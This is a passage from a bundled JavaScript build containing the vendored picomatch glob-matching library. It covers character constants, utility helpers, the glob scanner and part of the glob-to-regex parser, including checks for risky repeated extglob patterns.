      CHAR_EXCLAMATION_MARK: 33,
      /* ! */
      CHAR_FORM_FEED: 12,
      /* \f */
      CHAR_FORWARD_SLASH: 47,
      /* / */
      CHAR_GRAVE_ACCENT: 96,
      /* ` */
      CHAR_HASH: 35,
      /* # */
      CHAR_HYPHEN_MINUS: 45,
      /* - */
      CHAR_LEFT_ANGLE_BRACKET: 60,
      /* < */
      CHAR_LEFT_CURLY_BRACE: 123,
      /* { */
      CHAR_LEFT_SQUARE_BRACKET: 91,
      /* [ */
      CHAR_LINE_FEED: 10,
      /* \n */
      CHAR_NO_BREAK_SPACE: 160,
      /* \u00A0 */
      CHAR_PERCENT: 37,
      /* % */
      CHAR_PLUS: 43,
      /* + */
      CHAR_QUESTION_MARK: 63,
      /* ? */
      CHAR_RIGHT_ANGLE_BRACKET: 62,
      /* > */
      CHAR_RIGHT_CURLY_BRACE: 125,
      /* } */
      CHAR_RIGHT_SQUARE_BRACKET: 93,
      /* ] */
      CHAR_SEMICOLON: 59,
      /* ; */
      CHAR_SINGLE_QUOTE: 39,
      /* ' */
      CHAR_SPACE: 32,
      /*   */
      CHAR_TAB: 9,
      /* \t */
      CHAR_UNDERSCORE: 95,
      /* _ */
      CHAR_VERTICAL_LINE: 124,
      /* | */
      CHAR_ZERO_WIDTH_NOBREAK_SPACE: 65279,
      /* \uFEFF */
      /**
       * Create EXTGLOB_CHARS
       */
      extglobChars(chars) {
        return {
          "!": { type: "negate", open: "(?:(?!(?:", close: `))${chars.STAR})` },
          "?": { type: "qmark", open: "(?:", close: ")?" },
          "+": { type: "plus", open: "(?:", close: ")+" },
          "*": { type: "star", open: "(?:", close: ")*" },
          "@": { type: "at", open: "(?:", close: ")" }
        };
      },
      /**
       * Create GLOB_CHARS
       */
      globChars(win322) {
        return win322 === true ? WINDOWS_CHARS : POSIX_CHARS;
      }
    };
  }
});

// node_modules/picomatch/lib/utils.js
var require_utils = __commonJS({
  "node_modules/picomatch/lib/utils.js"(exports2) {
    "use strict";
    var {
      REGEX_BACKSLASH,
      REGEX_REMOVE_BACKSLASH,
      REGEX_SPECIAL_CHARS,
      REGEX_SPECIAL_CHARS_GLOBAL
    } = require_constants();
    exports2.isObject = (val) => val !== null && typeof val === "object" && !Array.isArray(val);
    exports2.hasRegexChars = (str3) => REGEX_SPECIAL_CHARS.test(str3);
    exports2.isRegexChar = (str3) => str3.length === 1 && exports2.hasRegexChars(str3);
    exports2.escapeRegex = (str3) => str3.replace(REGEX_SPECIAL_CHARS_GLOBAL, "\\$1");
    exports2.toPosixSlashes = (str3) => str3.replace(REGEX_BACKSLASH, "/");
    exports2.isWindows = () => {
      if (typeof navigator !== "undefined" && navigator.platform) {
        const platform = navigator.platform.toLowerCase();
        return platform === "win32" || platform === "windows";
      }
      if (typeof process !== "undefined" && process.platform) {
        return process.platform === "win32";
      }
      return false;
    };
    exports2.removeBackslashes = (str3) => {
      return str3.replace(REGEX_REMOVE_BACKSLASH, (match) => {
        return match === "\\" ? "" : match;
      });
    };
    exports2.escapeLast = (input, char, lastIdx) => {
      const idx = input.lastIndexOf(char, lastIdx);
      if (idx === -1) return input;
      if (input[idx - 1] === "\\") return exports2.escapeLast(input, char, idx - 1);
      return `${input.slice(0, idx)}\\${input.slice(idx)}`;
    };
    exports2.removePrefix = (input, state = {}) => {
      let output = input;
      if (output.startsWith("./")) {
        output = output.slice(2);
        state.prefix = "./";
      }
      return output;
    };
    exports2.wrapOutput = (input, state = {}, options = {}) => {
      const prepend = options.contains ? "" : "^";
      const append = options.contains ? "" : "$";
      let output = `${prepend}(?:${input})${append}`;
      if (state.negated === true) {
        output = `(?:^(?!${output}).*$)`;
      }
      return output;
    };
    exports2.basename = (path14, { windows } = {}) => {
      const segs = path14.split(windows ? /[\\/]/ : "/");
      const last = segs[segs.length - 1];
      if (last === "") {
        return segs[segs.length - 2];
      }
      return last;
    };
  }
});

// node_modules/picomatch/lib/scan.js
var require_scan = __commonJS({
  "node_modules/picomatch/lib/scan.js"(exports2, module2) {
    "use strict";
    var utils = require_utils();
    var {
      CHAR_ASTERISK,
      /* * */
      CHAR_AT,
      /* @ */
      CHAR_BACKWARD_SLASH,
      /* \ */
      CHAR_COMMA,
      /* , */
      CHAR_DOT,
      /* . */
      CHAR_EXCLAMATION_MARK,
      /* ! */
      CHAR_FORWARD_SLASH,
      /* / */
      CHAR_LEFT_CURLY_BRACE,
      /* { */
      CHAR_LEFT_PARENTHESES,
      /* ( */
      CHAR_LEFT_SQUARE_BRACKET,
      /* [ */
      CHAR_PLUS,
      /* + */
      CHAR_QUESTION_MARK,
      /* ? */
      CHAR_RIGHT_CURLY_BRACE,
      /* } */
      CHAR_RIGHT_PARENTHESES,
      /* ) */
      CHAR_RIGHT_SQUARE_BRACKET
      /* ] */
    } = require_constants();
    var isPathSeparator = (code3) => {
      return code3 === CHAR_FORWARD_SLASH || code3 === CHAR_BACKWARD_SLASH;
    };
    var depth = (token) => {
      if (token.isPrefix !== true) {
        token.depth = token.isGlobstar ? Infinity : 1;
      }
    };
    var scan = (input, options) => {
      const opts = options || {};
      const length = input.length - 1;
      const scanToEnd = opts.parts === true || opts.tokens === true || opts.scanToEnd === true;
      const slashes = [];
      const tokens = [];
      const parts = [];
      let str3 = input;
      let index2 = -1;
      let start = 0;
      let lastIndex = 0;
      let isBrace = false;
      let isBracket = false;
      let isGlob = false;
      let isExtglob = false;
      let isGlobstar = false;
      let braceEscaped = false;
      let backslashes = false;
      let negated = false;
      let negatedExtglob = false;
      let finished = false;
      let braces = 0;
      let prev;
      let code3;
      let token = { value: "", depth: 0, isGlob: false };
      const eos = () => index2 >= length;
      const peek = () => str3.charCodeAt(index2 + 1);
      const advance = () => {
        prev = code3;
        return str3.charCodeAt(++index2);
      };
      while (index2 < length) {
        code3 = advance();
        let next;
        if (code3 === CHAR_BACKWARD_SLASH) {
          backslashes = token.backslashes = true;
          code3 = advance();
          if (code3 === CHAR_LEFT_CURLY_BRACE) {
            braceEscaped = true;
          }
          continue;
        }
        if (braceEscaped === true || code3 === CHAR_LEFT_CURLY_BRACE) {
          braces++;
          while (eos() !== true && (code3 = advance())) {
            if (code3 === CHAR_BACKWARD_SLASH) {
              backslashes = token.backslashes = true;
              advance();
              continue;
            }
            if (code3 === CHAR_LEFT_CURLY_BRACE) {
              braces++;
              continue;
            }
            if (braceEscaped !== true && code3 === CHAR_DOT && (code3 = advance()) === CHAR_DOT) {
              isBrace = token.isBrace = true;
              isGlob = token.isGlob = true;
              finished = true;
              if (scanToEnd === true) {
                continue;
              }
              break;
            }
            if (braceEscaped !== true && code3 === CHAR_COMMA) {
              isBrace = token.isBrace = true;
              isGlob = token.isGlob = true;
              finished = true;
              if (scanToEnd === true) {
                continue;
              }
              break;
            }
            if (code3 === CHAR_RIGHT_CURLY_BRACE) {
              braces--;
              if (braces === 0) {
                braceEscaped = false;
                isBrace = token.isBrace = true;
                finished = true;
                break;
              }
            }
          }
          if (scanToEnd === true) {
            continue;
          }
          break;
        }
        if (code3 === CHAR_FORWARD_SLASH) {
          slashes.push(index2);
          tokens.push(token);
          token = { value: "", depth: 0, isGlob: false };
          if (finished === true) continue;
          if (prev === CHAR_DOT && index2 === start + 1) {
            start += 2;
            continue;
          }
          lastIndex = index2 + 1;
          continue;
        }
        if (opts.noext !== true) {
          const isExtglobChar = code3 === CHAR_PLUS || code3 === CHAR_AT || code3 === CHAR_ASTERISK || code3 === CHAR_QUESTION_MARK || code3 === CHAR_EXCLAMATION_MARK;
          if (isExtglobChar === true && peek() === CHAR_LEFT_PARENTHESES) {
            isGlob = token.isGlob = true;
            isExtglob = token.isExtglob = true;
            finished = true;
            if (code3 === CHAR_EXCLAMATION_MARK && index2 === start) {
              negatedExtglob = true;
            }
            if (scanToEnd === true) {
              let parens = 0;
              while (eos() !== true && (code3 = advance())) {
                if (code3 === CHAR_BACKWARD_SLASH) {
                  backslashes = token.backslashes = true;
                  advance();
                  continue;
                }
                if (code3 === CHAR_LEFT_PARENTHESES) {
                  parens++;
                  continue;
                }
                if (code3 === CHAR_RIGHT_PARENTHESES && --parens === 0) {
                  finished = true;
                  break;
                }
              }
              continue;
            }
            break;
          }
        }
        if (code3 === CHAR_ASTERISK) {
          if (prev === CHAR_ASTERISK) isGlobstar = token.isGlobstar = true;
          isGlob = token.isGlob = true;
          finished = true;
          if (scanToEnd === true) {
            continue;
          }
          break;
        }
        if (code3 === CHAR_QUESTION_MARK) {
          isGlob = token.isGlob = true;
          finished = true;
          if (scanToEnd === true) {
            continue;
          }
          break;
        }
        if (code3 === CHAR_LEFT_SQUARE_BRACKET) {
          while (eos() !== true && (next = advance())) {
            if (next === CHAR_BACKWARD_SLASH) {
              backslashes = token.backslashes = true;
              advance();
              continue;
            }
            if (next === CHAR_RIGHT_SQUARE_BRACKET) {
              isBracket = token.isBracket = true;
              isGlob = token.isGlob = true;
              finished = true;
              break;
            }
          }
          if (scanToEnd === true) {
            continue;
          }
          break;
        }
        if (opts.nonegate !== true && code3 === CHAR_EXCLAMATION_MARK && index2 === start) {
          negated = token.negated = true;
          start++;
          continue;
        }
        if (opts.noparen !== true && code3 === CHAR_LEFT_PARENTHESES) {
          isGlob = token.isGlob = true;
          if (scanToEnd === true) {
            let parens = 1;
            while (eos() !== true && (code3 = advance())) {
              if (code3 === CHAR_BACKWARD_SLASH) {
                backslashes = token.backslashes = true;
                advance();
                continue;
              }
              if (code3 === CHAR_LEFT_PARENTHESES) {
                parens++;
                continue;
              }
              if (code3 === CHAR_RIGHT_PARENTHESES && --parens === 0) {
                finished = true;
                break;
              }
            }
            continue;
          }
          break;
        }
        if (isGlob === true) {
          finished = true;
          if (scanToEnd === true) {
            continue;
          }
          break;
        }
      }
      if (opts.noext === true) {
        isExtglob = false;
        isGlob = false;
      }
      let base = str3;
      let prefix = "";
      let glob = "";
      if (start > 0) {
        prefix = str3.slice(0, start);
        str3 = str3.slice(start);
        lastIndex -= start;
      }
      if (base && isGlob === true && lastIndex > 0) {
        base = str3.slice(0, lastIndex);
        glob = str3.slice(lastIndex);
      } else if (isGlob === true) {
        base = "";
        glob = str3;
      } else {
        base = str3;
      }
      if (base && base !== "" && base !== "/" && base !== str3) {
        if (isPathSeparator(base.charCodeAt(base.length - 1))) {
          base = base.slice(0, -1);
        }
      }
      if (opts.unescape === true) {
        if (glob) glob = utils.removeBackslashes(glob);
        if (base && backslashes === true) {
          base = utils.removeBackslashes(base);
        }
      }
      const state = {
        prefix,
        input,
        start,
        base,
        glob,
        isBrace,
        isBracket,
        isGlob,
        isExtglob,
        isGlobstar,
        negated,
        negatedExtglob
      };
      if (opts.tokens === true) {
        state.maxDepth = 0;
        if (!isPathSeparator(code3)) {
          tokens.push(token);
        }
        state.tokens = tokens;
      }
      if (opts.parts === true || opts.tokens === true) {
        let prevIndex;
        for (let idx = 0; idx < slashes.length; idx++) {
          const n2 = prevIndex !== void 0 ? prevIndex + 1 : start;
          const i = slashes[idx];
          const value2 = input.slice(n2, i);
          if (opts.tokens) {
            if (idx === 0 && start !== 0) {
              tokens[idx].isPrefix = true;
              tokens[idx].value = prefix;
            } else {
              tokens[idx].value = value2;
            }
            depth(tokens[idx]);
            state.maxDepth += tokens[idx].depth;
          }
          if (i >= start) {
            parts.push(value2);
            prevIndex = i;
          }
        }
        const n = prevIndex !== void 0 ? prevIndex + 1 : start;
        const value = input.slice(n);
        parts.push(value);
        if (opts.tokens && prevIndex && prevIndex + 1 < input.length) {
          tokens[tokens.length - 1].value = value;
          depth(tokens[tokens.length - 1]);
          state.maxDepth += tokens[tokens.length - 1].depth;
        }
        state.slashes = slashes;
        state.parts = parts;
      }
      return state;
    };
    module2.exports = scan;
  }
});

// node_modules/picomatch/lib/parse.js
var require_parse = __commonJS({
  "node_modules/picomatch/lib/parse.js"(exports2, module2) {
    "use strict";
    var constants = require_constants();
    var utils = require_utils();
    var {
      MAX_LENGTH,
      POSIX_REGEX_SOURCE,
      REGEX_NON_SPECIAL_CHARS,
      REGEX_SPECIAL_CHARS_BACKREF,
      REPLACEMENTS
    } = constants;
    var expandRange = (args, options) => {
      if (typeof options.expandRange === "function") {
        return options.expandRange(...args, options);
      }
      args.sort();
      const value = `[${args.join("-")}]`;
      try {
        new RegExp(value);
      } catch (ex) {
        return args.map((v) => utils.escapeRegex(v)).join("..");
      }
      return value;
    };
    var syntaxError = (type, char) => {
      return `Missing ${type}: "${char}" - use "\\\\${char}" to match literal characters`;
    };
    var splitTopLevel = (input) => {
      const parts = [];
      let bracket = 0;
      let paren = 0;
      let quote2 = 0;
      let value = "";
      let escaped = false;
      for (const ch of input) {
        if (escaped === true) {
          value += ch;
          escaped = false;
          continue;
        }
        if (ch === "\\") {
          value += ch;
          escaped = true;
          continue;
        }
        if (ch === '"') {
          quote2 = quote2 === 1 ? 0 : 1;
          value += ch;
          continue;
        }
        if (quote2 === 0) {
          if (ch === "[") {
            bracket++;
          } else if (ch === "]" && bracket > 0) {
            bracket--;
          } else if (bracket === 0) {
            if (ch === "(") {
              paren++;
            } else if (ch === ")" && paren > 0) {
              paren--;
            } else if (ch === "|" && paren === 0) {
              parts.push(value);
              value = "";
              continue;
            }
          }
        }
        value += ch;
      }
      parts.push(value);
      return parts;
    };
    var isPlainBranch = (branch) => {
      let escaped = false;
      for (const ch of branch) {
        if (escaped === true) {
          escaped = false;
          continue;
        }
        if (ch === "\\") {
          escaped = true;
          continue;
        }
        if (/[?*+@!()[\]{}]/.test(ch)) {
          return false;
        }
      }
      return true;
    };
    var normalizeSimpleBranch = (branch) => {
      let value = branch.trim();
      let changed = true;
      while (changed === true) {
        changed = false;
        if (/^@\([^\\()[\]{}|]+\)$/.test(value)) {
          value = value.slice(2, -1);
          changed = true;
        }
      }
      if (!isPlainBranch(value)) {
        return;
      }
      return value.replace(/\\(.)/g, "$1");
    };
    var hasRepeatedCharPrefixOverlap = (branches) => {
      const values = branches.map(normalizeSimpleBranch).filter(Boolean);
      for (let i = 0; i < values.length; i++) {
        for (let j = i + 1; j < values.length; j++) {
          const a = values[i];
          const b = values[j];
          const char = a[0];
          if (!char || a !== char.repeat(a.length) || b !== char.repeat(b.length)) {
            continue;
          }
          if (a === b || a.startsWith(b) || b.startsWith(a)) {
            return true;
          }
        }
      }
      return false;
    };
    var parseRepeatedExtglob = (pattern, requireEnd = true) => {
      if (pattern[0] !== "+" && pattern[0] !== "*" || pattern[1] !== "(") {
        return;
      }
      let bracket = 0;
      let paren = 0;
      let quote2 = 0;
      let escaped = false;
      for (let i = 1; i < pattern.length; i++) {
        const ch = pattern[i];
        if (escaped === true) {
          escaped = false;
          continue;
        }
        if (ch === "\\") {
          escaped = true;
          continue;
        }
        if (ch === '"') {
          quote2 = quote2 === 1 ? 0 : 1;
          continue;
        }
        if (quote2 === 1) {
          continue;
        }
        if (ch === "[") {
          bracket++;
          continue;
        }
        if (ch === "]" && bracket > 0) {
          bracket--;
          continue;
        }
        if (bracket > 0) {
          continue;
        }
        if (ch === "(") {
          paren++;
          continue;
        }
        if (ch === ")") {
          paren--;
          if (paren === 0) {
            if (requireEnd === true && i !== pattern.length - 1) {
              return;
            }
            return {
              type: pattern[0],
              body: pattern.slice(2, i),
              end: i
            };
          }
        }
      }
    };
    var buildCharClassStar = (chars) => {
      const source = chars.length === 1 ? utils.escapeRegex(chars[0]) : `[${chars.map((ch) => utils.escapeRegex(ch)).join("")}]`;
      return `${source}*`;
    };
    var getStarExtglobSequenceChars = (pattern) => {
      let index2 = 0;
      const chars = [];
      while (index2 < pattern.length) {
        const match = parseRepeatedExtglob(pattern.slice(index2), false);
        if (!match || match.type !== "*") {
          return;
        }
        const branches = splitTopLevel(match.body).map((branch2) => branch2.trim());
        if (branches.length !== 1) {
          return;
        }
        const branch = normalizeSimpleBranch(branches[0]);
        if (!branch || branch.length !== 1) {
          return;
        }
        chars.push(branch);
        index2 += match.end + 1;
      }
      if (chars.length < 1) {
        return;
      }
      return chars;
    };
    var repeatedExtglobRecursion = (pattern) => {
      let depth = 0;
      let value = pattern.trim();
      let match = parseRepeatedExtglob(value);
      while (match) {
        depth++;
        value = match.body.trim();
        match = parseRepeatedExtglob(value);
      }
      return depth;
    };
    var analyzeRepeatedExtglob = (body, options) => {
      if (options.maxExtglobRecursion === false) {
        return { risky: false };
      }
      const max = typeof options.maxExtglobRecursion === "number" ? options.maxExtglobRecursion : constants.DEFAULT_MAX_EXTGLOB_RECURSION;
      const branches = splitTopLevel(body).map((branch) => branch.trim());
      if (branches.length > 1) {
        if (branches.some((branch) => branch === "") || branches.some((branch) => /^[*?]+$/.test(branch)) || hasRepeatedCharPrefixOverlap(branches)) {
          return { risky: true };
        }
      }
      const safeChars = [];
      let sawStarSequence = false;
      let combinable = true;
      for (const branch of branches) {
        const chars = getStarExtglobSequenceChars(branch);
        if (chars) {
          sawStarSequence = true;
          safeChars.push(...chars);
          continue;
        }
        const literal = normalizeSimpleBranch(branch);
        if (literal && literal.length === 1) {
          safeChars.push(literal);
          continue;
        }
        combinable = false;
        if (repeatedExtglobRecursion(branch) > max) {
          return { risky: true };
        }
      }
      if (sawStarSequence) {
        return combinable ? { risky: true, safeOutput: buildCharClassStar([...new Set(safeChars)]) } : { risky: true };
      }
      return { risky: false };
    };
    var parse2 = (input, options) => {
      if (typeof input !== "string") {
        throw new TypeError("Expected a string");
      }
      input = REPLACEMENTS[input] || input;
      const opts = { ...options };
      const max = typeof opts.maxLength === "number" ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
      let len = input.length;
      if (len > max) {
        throw new SyntaxError(`Input length: ${len}, exceeds maximum allowed length: ${max}`);
      }
      const bos = { type: "bos", value: "", output: opts.prepend || "" };
      const tokens = [bos];
      const capture = opts.capture ? "" : "?:";
      const PLATFORM_CHARS = constants.globChars(opts.windows);
      const EXTGLOB_CHARS = constants.extglobChars(PLATFORM_CHARS);
      const {
        DOT_LITERAL,
        PLUS_LITERAL,
        SLASH_LITERAL,
        ONE_CHAR,
        DOTS_SLASH,
        NO_DOT,
        NO_DOT_SLASH,
        NO_DOTS_SLASH,
        QMARK,
        QMARK_NO_DOT,
        STAR,
        START_ANCHOR
      } = PLATFORM_CHARS;
      const globstar = (opts2) => {
        return `(${capture}(?:(?!${START_ANCHOR}${opts2.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
      };
      const nodot = opts.dot ? "" : NO_DOT;
      const qmarkNoDot = opts.dot ? QMARK : QMARK_NO_DOT;
      let star = opts.bash === true ? globstar(opts) : STAR;
      if (opts.capture) {
        star = `(${star})`;
      }
      if (typeof opts.noext === "boolean") {
        opts.noextglob = opts.noext;
      }
      const state = {
        input,
        index: -1,
        start: 0,
        dot: opts.dot === true,
        consumed: "",
        output: "",
        prefix: "",
        backtrack: false,
        negated: false,
        brackets: 0,
        braces: 0,
        parens: 0,
        quotes: 0,
        globstar: false,
        tokens
      };
      input = utils.removePrefix(input, state);
      len = input.length;
      const extglobs = [];
      const braces = [];
      const stack = [];
      let prev = bos;
      let value;
      const eos = () => state.index === len - 1;
      const peek = state.peek = (n = 1) => input[state.index + n];
      const advance = state.advance = () => input[++state.index] || "";
      const remaining = () => input.slice(state.index + 1);
      const consume = (value2 = "", num = 0) => {
        state.consumed += value2;
        state.index += num;
      };
      const append = (token) => {
        state.output += token.output != null ? token.output : token.value;
        consume(token.value);
      };
      const negate = () => {
        let count = 1;
        while (peek() === "!" && (peek(2) !== "(" || peek(3) === "?")) {
          advance();
          state.start++;
          count++;
        }
        if (count % 2 === 0) {
          return false;
        }
        state.negated = true;
        state.start++;
        return true;
      };
      const increment = (type) => {
        state[type]++;
        stack.push(type);
      };
      const decrement = (type) => {
        state[type]--;
        stack.pop();
      };
      const push = (tok) => {
        if (prev.type === "globstar") {
          const isBrace = state.braces > 0 && (tok.type === "comma" || tok.type === "brace");
          const isExtglob = tok.extglob === true || extglobs.length && (tok.type === "pipe" || tok.type === "paren");
          if (tok.type !== "slash" && tok.type !== "paren" && !isBrace && !isExtglob) {
            state.output = state.output.slice(0, -prev.output.length);
            prev.type = "star";
            prev.value = "*";
            prev.output = star;
            state.output += prev.output;
          }
        }
        if (extglobs.length && tok.type !== "paren") {
          extglobs[extglobs.length - 1].inner += tok.value;
        }
        if (tok.value || tok.output) append(tok);
        if (prev && prev.type === "text" && tok.type === "text") {
          prev.output = (prev.output || prev.value) + tok.value;
          prev.value += tok.value;
          return;
        }
        tok.prev = prev;
        tokens.push(tok);
        prev = tok;
      };
      const extglobOpen = (type, value2) => {
        const token = { ...EXTGLOB_CHARS[value2], conditions: 1, inner: "" };
        token.prev = prev;
        token.parens = state.parens;
        token.output = state.output;
        token.startIndex = state.index;
        token.tokensIndex = tokens.length;
        const output = (opts.capture ? "(" : "") + token.open;
        increment("parens");
        push({ type, value: value2, output: state.output ? "" : ONE_CHAR });
        push({ type: "paren", extglob: true, value: advance(), output });
        extglobs.push(token);
      };
      const extglobClose = (token) => {
        const literal = input.slice(token.startIndex, state.index + 1);
        const body = input.slice(token.startIndex + 2, state.index);
        const analysis = analyzeRepeatedExtglob(body, opts);
        if ((token.type === "plus" || token.type === "star") && analysis.risky) {
          const safeOutput = analysis.safeOutput ? (token.output ? "" : ONE_CHAR) + (opts.capture ? `(${analysis.safeOutput})` : analysis.safeOutput) : void 0;
          const open = tokens[token.tokensIndex];
          open.type = "text";
          open.value = literal;
          open.output = safeOutput || utils.escapeRegex(literal);
          for (let i = token.tokensIndex + 1; i < tokens.length; i++) {
            tokens[i].value = "";
            tokens[i].output = "";
            delete tokens[i].suffix;
          }
          state.output = token.output + open.output;
          state.backtrack = true;
          push({ type: "paren", extglob: true, value, output: "" });
          decrement("parens");
          return;
        }
        let output = token.close + (opts.capture ? ")" : "");
        let rest;
        if (token.type === "negate") {
          let extglobStar = star;
          if (token.inner && token.inner.length > 1 && token.inner.includes("/")) {
            extglobStar = globstar(opts);
          }
          if (extglobStar !== star || eos() || /^\)+$/.test(remaining())) {
            output = token.close = `)$))${extglobStar}`;
          }
          if (token.inner.includes("*") && (rest = remaining()) && /^\.[^\\/.]+$/.test(rest)) {
            const expression = parse2(rest, { ...options, fastpaths: false }).output;
            output = token.close = `)${expression})${extglobStar})`;
          }
          if (token.prev.type === "bos") {
            state.negatedExtglob = true;
          }
        }
        push({ type: "paren", extglob: true, value, output });
        decrement("parens");
      };
      if (opts.fastpaths !== false && !/(^[*!]|[/()[\]{}"])/.test(input)) {
        let backslashes = false;
        let output = input.replace(REGEX_SPECIAL_CHARS_BACKREF, (m, esc, chars, first, rest, index2) => {
          if (first === "\\") {
            backslashes = true;
            return m;
          }
          if (first === "?") {
            if (esc) {
              return esc + first + (rest ? QMARK.repeat(rest.length) : "");
            }
            if (index2 === 0) {
              return qmarkNoDot + (rest ? QMARK.repeat(rest.length) : "");
            }
            return QMARK.repeat(chars.length);
          }
          if (first === ".") {
            return DOT_LITERAL.repeat(chars.length);
          }
          if (first === "*") {
            if (esc) {
              return esc + first + (rest ? star : "");
            }
            return star;
          }
          return esc ? m : `\\${m}`;
        });
        if (backslashes === true) {
          if (opts.unescape === true) {
            output = output.replace(/\\/g, "");
          } else {
            output = output.replace(/\\+/g, (m) => {
              return m.length % 2 === 0 ? "\\\\" : m ? "\\" : "";
            });
          }
        }
        if (output === input && opts.contains === true) {
          state.output = input;
          return state;
        }
        state.output = utils.wrapOutput(output, state, options);
        return state;
      }
      while (!eos()) {
        value = advance();
        if (value === "\0") {
          continue;
        }
        if (value === "\\") {
          const next = peek();
          if (next === "/" && opts.bash !== true) {
            continue;
          }
          if (next === "." || next === ";") {
            continue;
          }
          if (!next) {
            value += "\\";
            push({ type: "text", value });
            continue;
          }
          const match = /^\\+/.exec(remaining());
          let slashes = 0;
          if (match && match[0].length > 2) {
            slashes = match[0].length;
            state.index += slashes;
            if (slashes % 2 !== 0) {
              value += "\\";
            }
          }
          if (opts.unescape === true) {
            value = advance();
          } else {
            value += advance();
          }
          if (state.brackets === 0) {
            push({ type: "text", value });
            continue;
          }
        }
        if (state.brackets > 0 && (value !== "]" || prev.value === "[" || prev.value === "[^")) {
          if (opts.posix !== false && value === ":") {
            const inner = prev.value.slice(1);
            if (inner.includes("[")) {
              prev.posix = true;
              if (inner.includes(":")) {
                const idx = prev.value.lastIndexOf("[");
                const pre = prev.value.slice(0, idx);
                const rest2 = prev.value.slice(idx + 2);
                const posix = POSIX_REGEX_SOURCE[rest2];
                if (posix) {
                  prev.value = pre + posix;
                  state.backtrack = true;
                  advance();
                  if (!bos.output && tokens.indexOf(prev) === 1) {
                    bos.output = ONE_CHAR;
                  }
                  continue;
                }
              }
            }
          }
          if (value === "[" && peek() !== ":" || value === "-" && peek() === "]") {
            value = `\\${value}`;
          }
          if (value === "]" && (prev.value === "[" || prev.value === "[^")) {
            value = `\\${value}`;
          }
          if (opts.posix === true && value === "!" && prev.value === "[") {
            value = "^";
          }
          prev.value += value;
          append({ value });
          continue;
        }
        if (state.quotes === 1 && value !== '"') {
          value = utils.escapeRegex(value);
          prev.value += value;
          append({ value });
          continue;
        }
        if (value === '"') {
          state.quotes = state.quotes === 1 ? 0 : 1;
          if (opts.keepQuotes === true) {
            push({ type: "text", value });
          }
          continue;
        }
        if (value === "(") {
          increment("parens");
          push({ type: "paren", value });
          continue;
        }
        if (value === ")") {
          if (state.parens === 0 && opts.strictBrackets === true) {
            throw new SyntaxError(syntaxError("opening", "("));
          }
          const extglob = extglobs[extglobs.length - 1];
          if (extglob && state.parens === extglob.parens + 1) {
            extglobClose(extglobs.pop());
            continue;
          }
          push({ type: "paren", value, output: state.parens ? ")" : "\\)" });
          decrement("parens");
          continue;
        }
        if (value === "[") {
          if (opts.nobracket === true || !remaining().includes("]")) {
            if (opts.nobracket !== true && opts.strictBrackets === true) {
              throw new SyntaxError(syntaxError("closing", "]"));
            }
            value = `\\${value}`;
          } else {
            increment("brackets");
          }
          push({ type: "bracket", value });
          continue;
        }
        if (value === "]") {
          if (opts.nobracket === true || prev && prev.type === "bracket" && prev.value.length === 1) {
            push({ type: "text", value, output: `\\${value}` });
            continue;
          }
          if (state.brackets === 0) {
            if (opts.strictBrackets === true) {
              throw new SyntaxError(syntaxError("opening", "["));
            }
            push({ type: "text", value, output: `\\${value}` });
            continue;
          }
          decrement("brackets");
          const prevValue = prev.value.slice(1);
          if (prev.posix !== true && prevValue[0] === "^" && !prevValue.includes("/")) {
            value = `/${value}`;
          }
          prev.value += value;
          append({ value });
          if (opts.literalBrackets === false || utils.hasRegexChars(prevValue)) {
            continue;
          }
          const escaped = utils.escapeRegex(prev.value);
          state.output = state.output.slice(0, -prev.value.length);
          if (opts.literalBrackets === true) {
            state.output += escaped;
            prev.value = escaped;
            continue;
          }
          prev.value = `(${capture}${escaped}|${prev.value})`;
          state.output += prev.value;
          continue;
        }
        if (value === "{" && opts.nobrace !== true) {
          increment("braces");
          const open = {
            type: "brace",
            value,
            output: "(",
            outputIndex: state.output.length,
            tokensIndex: state.tokens.length
          };
          braces.push(open);
          push(open);
          continue;
        }
        if (value === "}") {
          const brace = braces[braces.length - 1];
          if (opts.nobrace === true || !brace) {
            push({ type: "text", value, output: value });
            continue;
          }
          let output = ")";
          if (brace.dots === true) {
            const arr = tokens.slice();
            const range = [];
            for (let i = arr.length - 1; i >= 0; i--) {
              tokens.pop();
              if (arr[i].type === "brace") {
                break;
              }
              if (arr[i].type !== "dots") {
                range.unshift(arr[i].value);
              }
            }
            output = expandRange(range, opts);
            state.backtrack = true;
          }
          if (brace.comma !== true && brace.dots !== true) {
            const out = state.output.slice(0, brace.outputIndex);
            const toks = state.tokens.slice(brace.tokensIndex);
            brace.value = brace.output = "\\{";
            value = output = "\\}";
            state.output = out;
            for (const t of toks) {
              state.output += t.output || t.value;
            }
          }
          push({ type: "brace", value, output });
          decrement("braces");
          braces.pop();
          continue;
        }
        if (value === "|") {
          if (extglobs.length > 0) {
            extglobs[extglobs.length - 1].conditions++;
          }
          push({ type: "text", value });
          continue;
        }
        if (value === ",") {
          let output = value;
          const brace = braces[braces.length - 1];
          if (brace && stack[stack.length - 1] === "braces") {
            brace.comma = true;
            output = "|";
          }
          push({ type: "comma", value, output });
          continue;
        }
        if (value === "/") {
          if (prev.type === "dot" && state.index === state.start + 1) {
            state.start = state.index + 1;
            state.consumed = "";
            state.output = "";
            tokens.pop();
            prev = bos;
            continue;
          }
          push({ type: "slash", value, output: SLASH_LITERAL });
          continue;
        }
        if (value === ".") {
          if (state.braces > 0 && prev.type === "dot") {
            if (prev.value === ".") prev.output = DOT_LITERAL;
            const brace = braces[braces.length - 1];
            prev.type = "dots";
            prev.output += value;
            prev.value += value;
            brace.dots = true;
            continue;
          }
          if (state.braces + state.parens === 0 && prev.type !== "bos" && prev.type !== "slash") {
            push({ type: "text", value, output: DOT_LITERAL });
            continue;
          }
          push({ type: "dot", value, output: DOT_LITERAL });
          continue;
        }
        if (value === "?") {
          const isGroup = prev && prev.value === "(";
          if (!isGroup && opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
            extglobOpen("qmark", value);
            continue;
          }
          if (prev && prev.type === "paren") {
            const next = peek();
            let output = value;
            if (prev.value === "(" && !/[!=<:]/.test(next) || next === "<" && !/<([!=]|\w+>)/.test(remaining())) {
              output = `\\${value}`;
            }
            push({ type: "text", value, output });
            continue;
          }
          if (opts.dot !== true && (prev.type === "slash" || prev.type === "bos")) {
            push({ type: "qmark", value, output: QMARK_NO_DOT });
            continue;
          }
          push({ type: "qmark", value, output: QMARK });
          continue;
        }
        if (value === "!") {
          if (opts.noextglob !== true && peek() === "(") {
            if (peek(2) !== "?" || !/[!=<:]/.test(peek(3))) {
              extglobOpen("negate", value);
              continue;
            }
          }
